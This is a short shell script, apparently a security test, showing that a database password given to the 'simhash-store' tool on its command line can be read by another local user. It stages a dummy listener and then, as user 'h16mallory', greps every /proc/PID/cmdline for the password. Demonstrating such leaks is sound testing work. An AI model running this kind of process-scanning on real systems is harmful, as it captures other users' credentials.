#!/bin/sh
# As root: h16alice runs `simhash-store --db 'postgresql://h16alice:pa?ssWORD@127.0.0.1:18717/x' stats`
# (a password holding "?", which the URL parser accepts) against a port that answers nothing (10 s);
# h16mallory reads every /proc/PID/cmdline 3 s later.
V=${1:-/home/h16alice/venv}
/usr/bin/python3 -c "import socket,time;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(('127.0.0.1',18717));s.listen();c=s.accept();time.sleep(15)" &
L=$!
sleep 0.5
su h16alice -c "cd ~ && $V/bin/simhash-store --db 'postgresql://h16alice:pa?ssWORD@127.0.0.1:18717/x' stats" >/dev/null 2>&1 &
sleep 3
su h16mallory -c 'for f in /proc/[0-9]*/cmdline; do tr "\0" " " < $f 2>/dev/null | grep -a "h16alice:pa" ; done'
kill $L; wait
